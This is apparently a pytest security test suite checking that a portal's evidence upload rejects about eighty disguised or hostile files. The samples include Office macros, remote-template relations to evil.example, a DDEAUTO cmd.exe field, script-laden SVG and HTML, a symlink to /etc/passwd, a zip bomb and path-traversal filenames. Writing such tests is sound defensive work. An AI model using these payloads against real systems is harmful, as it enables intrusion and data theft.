"""Eighty files that are not what they seem, brought as evidence through the portal (SEC9)."""

import zipfile
from io import BytesIO
from itertools import product

import pytest
from sqlmodel import select

from db.life_tables import EvidenceFile
from services.office import Office
from supervision.vocabulary import Role
from tests.builders import item_of
from tests.portal.browser import Browser, File
from tests.portal.conftest import SignedIn

DOCX, XLSX, PPTX = "word/document.xml", "xl/workbook.xml", "ppt/presentation.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n"
NATIVE = "\x01Ole10Native".encode("utf-16-le")


def package(part: str, **more: bytes) -> bytes:
    """Return an office package with these further members; `__` in a name stands for `/`."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as members:
        members.writestr(part, b"<x/>")
        for name, content in more.items():
            members.writestr(name.replace("__", "/").replace("_rels", ".rels"), content)
    return buffer.getvalue()


def relation(kind: str) -> bytes:
    return (
        f'<Relationship Id="r1" Type="http://schemas.example/{kind}" '
        f'Target="http://evil.example/x" TargetMode="External"/>'
    ).encode()


def linked_out() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as members:
        members.writestr(DOCX, b"<x/>")
        entry = zipfile.ZipInfo("word/media/image1.png")
        entry.external_attr = 0o120777 << 16
        members.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def field(instruction: str) -> bytes:
    return f"<w:p><w:instrText>{instruction}</w:instrText></w:p>".encode()


FETCHED = ("attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk")
VBA = OLE + "WordDocument_VBA_PROJECT".encode("utf-16-le")
SETUP = OLE + "Property".encode("utf-16-le")
HOSTILE: dict[str, File] = {
    **{
        f"macros in {part} called {name}": (
            name, package(part, **{f"{part.partition('/')[0]}__vbaProject.bin": b"x"}))
        for part, name in product(
            (DOCX, XLSX, PPTX), ("a.docm", "a.docx", "a.xlsx", "a.pdf", "a.jpg"))
    },
    **{
        f"{kind} from elsewhere in {part}": (
            "a.docx", package(part, **{f"{part.partition('/')[0]}__x._rels": relation(kind)}))
        for part, kind in product((DOCX, XLSX, PPTX), FETCHED)
    },
    **{
        f"a packed file in {part}": (
            "a.docx", package(part, **{f"{part.partition('/')[0]}__embeddings__x.bin": NATIVE}))
        for part in (DOCX, XLSX, PPTX)
    },
    **{
        f"field {said}": ("a.docx", package(DOCX, **{"word__footer1.xml": field(said)}))
        for said in ('DDEAUTO c:\\\\cmd.exe "/k calc"', "DDE Excel x", "ddeauto x y")
    },
    "a field cut in two": (
        "a.docx", package(DOCX, **{"word__footer1.xml": field("DDE") + field("AUTO x")})),
    "dde in a workbook": ("a.xlsx", package(XLSX, **{"xl__externalLinks__e.xml": b"<ddeLink/>"})),
    "a link out of the package": ("a.docx", linked_out()),
    "old office with macros": ("a.doc", VBA),
    "an installer": ("a.msi", SETUP),
    **{
        f"{what} as {name}": (name, data)
        for (what, data), name in product(
            (("a drawing", SVG), ("a page", HTML), ("a program", b"MZ\x90" + bytes(200)),
             ("a script", b"#!/bin/sh\nid\n"), ("an archive", package("readme.txt"))),
            ("a.png", "a.jpg", "a.pdf", "照片.PNG"),
        )
    },
    "empty": ("a.pdf", b""),
    "one byte too many": ("a.pdf", PDF + bytes(25 * 1024 * 1024 - len(PDF) + 1)),
    "a picture's head on a script": ("a.png", b"\x89PNG<script>alert(1)</script>"),
    "a link for the desktop": ("a.url", b"[InternetShortcut]\r\nURL=file://evil\x00\x01"),
    "a help file": ("a.chm", b"ITSF\x03" + bytes(200)),
    "a program for a telephone": ("a.apk", package("AndroidManifest.xml")),
    "a program in Java": ("a.jar", package("META-INF/MANIFEST.MF")),
    "a disk": ("a.iso", bytes(0x8001) + b"CD001"),
    "half a package": ("a.docx", package(DOCX)[:40]),
    "a bomb": ("a.docx", package(DOCX, **{"word__x.xml": bytes(220 * 1024 * 1024)})),
}  # fmt: skip

NAMES = ("../../etc/passwd", "..\\..\\boot.ini", "C:\\a.pdf", "/etc/passwd", "CON.pdf", "nul",
         "lpt1.pdf", "com9.pdf", "a\x00.pdf", "\u202egpj.exe", "..", "长" * 201)  # fmt: skip


@pytest.fixture
def bringer(signed_in: SignedIn) -> Browser:
    return signed_in(Role.LIAISON)


def stored(office: Office) -> int:
    with office.reading() as session:
        return len(session.exec(select(EvidenceFile)).all())


def test_there_are_eighty() -> None:
    assert len(HOSTILE) + len(NAMES) >= 80


def test_each_is_refused_in_words_and_none_is_stored(bringer: Browser, reporting: Office) -> None:
    with reporting.reading() as session:
        path = f"/items/{item_of(session, 'T01').id}/evidence"
    bringer.get(path)
    taken = []

    for what, (name, data) in HOSTILE.items():
        answer = bringer.submit(path, kind="ledger", file=(name, data))
        if answer.status_code != 422 or 'id="faults"' not in answer.text:
            taken.append((what, answer.status_code))

    assert taken == []
    assert stored(reporting) == 0
    assert list((reporting.settings.evidence).rglob("*.*")) == []


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_name_that_is_a_trap_is_refused_or_loses_its_path(
    bringer: Browser, reporting: Office, name: str
) -> None:
    with reporting.reading() as session:
        path = f"/items/{item_of(session, 'T01').id}/evidence"
    bringer.get(path)

    answer = bringer.submit(path, kind="ledger", file=(name, PDF))

    with reporting.reading() as session:
        kept = [row.name for row in session.exec(select(EvidenceFile))]
    assert (answer.status_code == 422 and kept == []) or kept in (
        ["a.pdf"],
        ["passwd"],
        ["a%00.pdf"],
    )


def test_a_hyperlink_and_a_linked_picture_are_nothing_to_refuse(
    bringer: Browser, reporting: Office
) -> None:
    with reporting.reading() as session:
        path = f"/items/{item_of(session, 'T01').id}/evidence"
    bringer.get(path)
    file = package(
        DOCX, **{"word__x._rels": relation("hyperlink"), "word__footer1.xml": field("PAGE")}
    )

    bringer.submit(path, kind="ledger", file=("方案.docx", file))

    assert "已上传 方案.docx" in bringer.page


def test_a_file_beyond_the_limit_is_not_even_read(bringer: Browser, reporting: Office) -> None:
    with reporting.reading() as session:
        path = f"/items/{item_of(session, 'T01').id}/evidence"
    bringer.get(path)
    largest = reporting.settings.evidence_file_mb * 1024 * 1024

    answer = bringer.submit(path, kind="ledger", file=("a.pdf", PDF + bytes(largest + 2**20)))

    assert answer.status_code == 413
    assert stored(reporting) == 0


def test_a_page_that_takes_no_file_takes_no_large_form(bringer: Browser) -> None:
    bringer.get("/account/password")

    answer = bringer.submit("/account/password", old="x" * (2 * 2**20), new="x", again="x")

    assert answer.status_code == 413
